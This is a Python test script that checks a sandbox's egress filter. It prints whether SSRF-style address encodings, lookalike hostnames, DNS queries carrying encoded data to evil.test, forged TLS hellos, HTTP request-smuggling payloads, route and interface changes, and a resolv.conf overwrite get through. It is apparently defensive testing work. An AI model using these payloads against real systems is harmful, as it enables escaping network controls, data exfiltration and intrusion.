"""Ways of not asking properly, each tried from inside a sandbox whose rules let out three hosts.

usage: knocks.py TLS PLAIN CANARY
Prints one line for each: what was tried, and `reached` if a server's nonce came back, else why not. Those that begin
with `control` have to reach one, as they ask properly.
"""
import os, re, socket, ssl, struct, sys

TLS, PLAIN, CANARY = map(int, sys.argv[1:4])
NONCE = b"NONCE"
STUB = "127.0.0.53"
socket.setdefaulttimeout(15)
rows = []


def row(name):
    def add(function):
        rows.append((name, function))
        return function
    return add


def read(connection):
    got = b""
    try:
        while NONCE not in got and len(got) < 100_000:
            piece = connection.recv(65536)
            if not piece:
                break
            got += piece
    except OSError as error:
        if NONCE not in got:
            raise error
    return got


def ask(host, port, said, kind=socket.SOCK_STREAM):
    with socket.create_connection((host, port)) as connection:
        connection.sendall(said)
        return read(connection)


def page(host, named=None, path="/nonce", port=PLAIN, more=""):
    return ask(host, port, f"GET {path} HTTP/1.1\r\nHost: {named or host}\r\n{more}Connection: close\r\n\r\n".encode())


def greet(host, named, port=TLS, address=None):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with socket.create_connection((address or host, port)) as connection:
        with context.wrap_socket(connection, server_hostname=named) as encrypted:
            encrypted.sendall(f"GET /nonce HTTP/1.1\r\nHost: {named}\r\nConnection: close\r\n\r\n".encode())
            return read(encrypted)


# Asking properly

@row("control a page over TLS")
def _(): return greet("good.example", "good.example")

@row("control the same in other case, with a dot")
def _(): return greet("GOOD.Example.", "Good.EXAMPLE")

@row("control a name under a wildcard")
def _(): return greet("one.wild.example", "one.wild.example")

@row("control a page that is not encrypted")
def _(): return page("plain.example")

@row("control with the port in the Host")
def _(): return page("plain.example", f"plain.example:{PLAIN}")

@row("control two requests on a connection")
def _():
    one = b"GET /empty HTTP/1.1\r\nHost: plain.example\r\n\r\n"
    return ask("plain.example", PLAIN, one + one.replace(b"empty", b"nonce"))

@row("control an address that a rule names")
def _(): return ask("127.0.0.9", CANARY, b"x")


# Addresses instead of names

for text in [
    "127.0.0.1", "127.1", "127.0.1", "0x7f.1", "0x7f000001", "2130706433", "017700000001", "0177.0.0.1", "0.0.0.0", "0",
    "::1", "::", "::ffff:127.0.0.1", "::127.0.0.1", "64:ff9b::7f00:1", "2002:7f00:1::1", "198.18.77.77", "198.19.255.255",
    "198.18.0.0", "fd70:6972:6e00::7777", "fd70:6972:6e00::", "10.0.0.1", "172.16.0.1", "192.168.1.1", "169.254.169.254",
    "fd00:ec2::254", "100.64.0.1", "8.8.8.8", "2606:4700::1111", "192.0.2.1", "127.0.0.53",
]:
    for port in (TLS, PLAIN):
        @row(f"the address {text} at {'TLS' if port == TLS else 'HTTP'}")
        def _(text=text, port=port):
            if port == PLAIN:
                return page(text, "plain.example")
            return greet(text, "good.example", port)

for text in ["255.255.255.255", "224.0.0.1", "ff02::1", "fe80::1%lo", "fe80::1%1"]:
    @row(f"the address {text}")
    def _(text=text): return page(text, "plain.example")


# Names that are almost right

for name in [
    "evil-good.example", "xgood.example", "good.example.evil.test", "good.exampl", "ood.example", "example", "wild.example",
    "two.one.wild.example", ".wild.example", "good-example", "good_example", "good.example%00.evil.test",
    "good.example%2eevil.test", "user@good.example", "good.example:443", "good.example/", "good.example#", "*.wild.example",
    "xn--good-.example", "g\u043e\u043ed.example", "good.example\\evil", "127.0.0.1.evil.test", "localhost.evil.test",
    "secret-0123456789abcdef0123456789abcdef.evil.test", "private.test", "canary.test", "good.example..",
]:
    @row(f"the name {name!r}")
    def _(name=name): return greet(name, "good.example")

for name, why in [
    ("private.example", "10.0.0.7"), ("metadata.example", "169.254.169.254"), ("linklocal.example", "fe80::1"),
    ("mapped.example", "::ffff:127.0.0.1"), ("sixtofour.example", "2002:7f00:1::"), ("nat.example", "64:ff9b::7f00:1"),
    ("carrier.example", "100.64.0.1"), ("nowhere.example", "0.0.0.0"), ("cloud.example", "fd00:ec2::254"),
    ("everyone.example", "224.0.0.1"), ("denied.example", "an address that a rule denies"),
]:
    @row(f"an allowed name that is at {why}")
    def _(name=name): return greet(name, name)


# Questions

def question(name, kind, tcp=False, server=STUB, raw=None):
    labels = raw if raw is not None else b"".join(
        bytes([len(l)]) + l for l in name.encode().split(b".") if l) + b"\0"
    message = struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + labels + struct.pack("!2H", kind, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM) as asking:
        asking.settimeout(4)
        asking.connect((server, 53))
        asking.send((struct.pack("!H", len(message)) if tcp else b"") + message)
        got = asking.recv(4096)
    got = got[2:] if tcp else got
    answers = struct.unpack("!H", got[6:8])[0]
    return b"NONCE: an answer" if answers else f"code {got[3] & 15}, no answer".encode()

for kind, number in dict(TXT=16, SRV=33, ANY=255, PTR=12, HTTPS=65, SVCB=64, MX=15, NS=2, CNAME=5, NULL=10, AXFR=252).items():
    @row(f"{kind} of an allowed name")
    def _(number=number): return question("good.example", number)

@row("control its address, by a question of our own")
def _(): return question("good.example", 1)

@row("control the same over a stream")
def _(): return question("good.example", 28, tcp=True)

@row("the address of a name with data in it")
def _(): return question("c2VjcmV0LXNlY3JldC1zZWNyZXQ.evil.test", 1)

@row("the same under an allowed name")
def _(): return question("c2VjcmV0LXNlY3JldC1zZWNyZXQ.good.example", 1)

for server in ["8.8.8.8", "1.1.1.1", "127.0.0.1", "127.0.0.11", "10.0.0.2"]:
    @row(f"a question to {server}")
    def _(server=server): return question("good.example", 1, server=server)

@row("a question over a stream to 8.8.8.8")
def _(): return question("good.example", 1, tcp=True, server="8.8.8.8")

for what, raw in {
    "a zero in a name": b"\x0dgood\0.example\0", "a label with a dot in it": b"\x0cgood.example\0",
    "a pointer to itself": b"\xc0\x0c", "a name of 300 bytes": (b"\x3f" + b"a" * 63) * 5 + b"\0",
    "a name without an end": b"\x04good\x07example", "a line feed in a name": b"\x05good\n\x07example\0",
}.items():
    @row(what)
    def _(raw=raw): return question("", 1, raw=raw)


# TLS that names somebody else

def piece(content, size): return len(content).to_bytes(size, "big") + content

def extension(kind, content): return struct.pack("!H", kind) + piece(content, 2)

def names(*all_of): return extension(0, piece(b"".join(b"\0" + piece(n.encode(), 2) for n in all_of), 2))

def hello(extensions):
    body = b"\3\3" + b"r" * 32 + piece(b"s" * 32, 1) + piece(b"\x13\x01\xc0\x2f", 2) + piece(b"\0", 1)
    body += piece(extensions, 2)
    return b"\1" + piece(body, 3)

def record(content, cut=None):
    cut = cut or len(content)
    return b"".join(b"\x16\3\1" + piece(content[i:i + cut], 2) for i in range(0, len(content), cut))

@row("TLS for another host")
def _(): return greet("good.example", "other.example")

@row("TLS for another host that is allowed")
def _(): return greet("good.example", "one.wild.example")

@row("TLS without a name")
def _(): return greet("good.example", None)

for what, said in {
    "a hello with two names": record(hello(names("good.example", "evil.test"))),
    "a hello with two lists of names": record(hello(names("good.example") + names("evil.test"))),
    "a hello with an encrypted one in it": record(hello(names("good.example") + extension(0xFE0D, b"\0" * 40))),
    "a hello for another host in records of a byte": record(hello(names("evil.test")), 1),
    "a hello with a zero in its name": record(hello(names("good.example\0.evil.test"))),
    "a hello with a dot at its end": record(hello(names("good.example."))),
    "a hello for an address": record(hello(names("127.0.0.1"))),
    "a hello with another message behind it": record(hello(names("good.example")) + b"\1\0\0\4abcd"),
    "a hello of the second version of SSL": b"\x80\x2e\x01\x00\x02\x00\x15\x00\x00\x00\x10" + b"x" * 37,
    "HTTP where TLS is meant": b"GET /nonce HTTP/1.1\r\nHost: good.example\r\n\r\n",
    "SSH where TLS is meant": b"SSH-2.0-OpenSSH_9.2\r\n",
}.items():
    @row(what)
    def _(said=said): return ask("good.example", TLS, said)


# HTTP that says two things

H = "HTTP/1.1\r\nHost: plain.example\r\n"
for what, said in {
    "another Host": "GET /nonce HTTP/1.1\r\nHost: evil.test\r\n\r\n",
    "no Host": "GET /nonce HTTP/1.0\r\n\r\n",
    "two Hosts": f"GET /nonce {H}Host: evil.test\r\n\r\n",
    "a Host on the next line": "GET /nonce HTTP/1.1\r\nHost: plain.example\r\n evil.test\r\n\r\n",
    "a Host with a user": "GET /nonce HTTP/1.1\r\nHost: plain.example@evil.test\r\n\r\n",
    "a Host with another port": "GET /nonce HTTP/1.1\r\nHost: plain.example:1\r\n\r\n",
    "a whole address as the target": f"GET http://evil.test/nonce {H}\r\n",
    "CONNECT": f"CONNECT evil.test:443 {H}\r\n",
    "a second request for another host": f"GET /empty {H}\r\nGET /nonce HTTP/1.1\r\nHost: evil.test\r\n\r\n",
    "two lengths": f"POST /nonce {H}Content-Length: 0\r\nContent-Length: 40\r\n\r\nGET /nonce HTTP/1.1\r\nHost: evil.test\r\n\r\n",
    "a length and chunks": f"POST /nonce {H}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /nonce HTTP/1.1\r\nHost: evil.test\r\n\r\n",
    "chunks by another name": f"POST /nonce {H}Transfer-Encoding: \x0bchunked\r\n\r\n0\r\n\r\n",
    "lines without carriage returns": f"GET /nonce {H}\r\n".replace("\r", ""),
    "a name before a colon with a space": "GET /nonce HTTP/1.1\r\nHost : plain.example\r\n\r\n",
    "a request to become another protocol": f"GET /nonce {H}Upgrade: h2c\r\nConnection: Upgrade\r\n\r\n",
    "the second version of HTTP": "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "a request that begins with an empty line": f"\r\nGET /nonce {H}\r\n",
    "a request for the oldest HTTP": "GET /nonce\r\n",
}.items():
    @row(f"HTTP with {what}")
    def _(said=said): return ask("plain.example", PLAIN, said.encode())


# Other ports, other protocols, other ways

@row("an allowed host at the port of another rule")
def _(): return page("good.example", "good.example", port=PLAIN)

@row("the other way round")
def _(): return greet("plain.example", "plain.example", port=TLS)

for port in [1, 22, 80, 8080, 65535, CANARY]:
    @row(f"an allowed host at {'the port of a canary' if port == CANARY else port}")
    def _(port=port): return ask("good.example", port, b"x")

def datagram(family, address, port, said=b"x"):
    with socket.socket(family, socket.SOCK_DGRAM) as out:
        out.settimeout(0.5)
        out.connect((address, port))
        out.send(said)
        return out.recv(1000)

for address, port in [("good.example", TLS), ("good.example", 443), ("8.8.8.8", 123), ("127.0.0.1", CANARY), ("255.255.255.255", 9)]:
    @row(f"a datagram to {address} port {'of a rule' if port == TLS else port}")
    def _(address=address, port=port): return datagram(socket.AF_INET, address, port)

@row("QUIC")
def _(): return datagram(socket.AF_INET, "good.example", TLS, b"\xc3\0\0\0\1" + b"x" * 1195)

def opened(*arguments):
    socket.socket(*arguments).close()
    return b"NONCE: a socket"

for what, arguments in {
    "a raw socket": (socket.AF_INET, socket.SOCK_RAW, 255), "a raw socket for ICMP": (socket.AF_INET, socket.SOCK_RAW, 1),
    "a raw socket of version 6": (socket.AF_INET6, socket.SOCK_RAW, 58), "packets": (socket.AF_PACKET, socket.SOCK_RAW, 0),
    "cooked packets": (socket.AF_PACKET, socket.SOCK_DGRAM, 0),     "a virtual machine's socket": (socket.AF_VSOCK, socket.SOCK_STREAM, 0), "SCTP": (socket.AF_INET, socket.SOCK_STREAM, 132),
    "Bluetooth": (31, socket.SOCK_RAW, 1), "the kernel's ciphers": (38, socket.SOCK_SEQPACKET, 0),
    "a key socket": (15, socket.SOCK_RAW, 2), "TIPC": (30, socket.SOCK_STREAM, 0), "CAN": (29, socket.SOCK_RAW, 1),
}.items():
    @row(what)
    def _(arguments=arguments): return opened(*arguments)

@row("a ping")
def _():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1) as out:
        out.settimeout(0.5)
        out.sendto(b"\x08\0\0\0\0\1\0\1", ("8.8.8.8", 0))
        # Where pinging is allowed at all, it is this sandbox that answers.
        return b"answered by " + out.recvfrom(100)[1][0].encode()

@row("an abstract socket of the host")
def _():
    with socket.socket(socket.AF_UNIX) as out:
        out.connect("\0pi-gate-canary")
        return out.recv(100)

@row("first words with the beginning of a connection")
def _():
    with socket.socket() as out:
        out.sendto(b"x", socket.MSG_FASTOPEN, ("8.8.8.8", CANARY))
        return read(out)

def netlink(kind, body):
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as out:
        out.sendall(struct.pack("=LHHLL", 16 + len(body), kind, 5, 1, 0) + body)
        error = struct.unpack("=l", out.recv(1000)[16:20])[0]
    return b"NONCE: done" if error == 0 else f"error {-error}".encode()

@row("the gate's route taken away")
def _(): return netlink(25, struct.pack("=8BL", 2, 0, 0, 0, 255, 0, 0, 2, 0))

@row("the loopback taken down by netlink")
def _(): return netlink(16, struct.pack("=BBHLLL", 0, 0, 0, 1, 0, 1))

@row("an address of one's own")
def _(): return netlink(20, struct.pack("=BBBBL", 2, 32, 0, 0, 1) + struct.pack("=HH4B", 8, 2, 10, 9, 8, 7))

@row("a route of one's own")
def _():
    import fcntl
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        fcntl.ioctl(out, 0x890B, b"\0" * 120)
    return b"NONCE: a route"

@row("an interface taken down")
def _():
    import fcntl
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        fcntl.ioctl(out, 0x8914, struct.pack("16sh14x", b"lo", 0))
    return b"NONCE: an interface"

@row("another's address as one's own")
def _():
    with socket.socket() as out:
        out.setsockopt(socket.SOL_IP, 19, 1)
    return b"NONCE: transparent"

@row("a mark on what is sent")
def _():
    with socket.socket() as out:
        out.setsockopt(socket.SOL_SOCKET, 36, 1)
    return b"NONCE: a mark"

@row("a server at a port of the gate")
def _():
    with socket.socket() as own:
        own.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        own.bind(("0.0.0.0", TLS))
        own.listen()
    return b"NONCE: bound"

@row("another resolver in the place of ours")
def _():
    open("/etc/resolv.conf", "w").write("nameserver 8.8.8.8\n")
    return b"NONCE: written"

@row("control a server of one's own")
def _():
    import threading
    own = socket.create_server(("127.0.0.1", 0))
    def answer():
        connection, _ = own.accept()
        connection.sendall(b"NONCE of our own")
        connection.close()
    threading.Thread(target=answer, daemon=True).start()
    return ask("127.0.0.1", own.getsockname()[1], b"x")

for name, attempt in rows:
    try:
        got = attempt() or b""
        said = "reached" if NONCE in got else "not: " + repr(got[:60])
    except Exception as error:
        said = f"not: {type(error).__name__}: {error}"
    print(f"{name}\t{said}", flush=True)
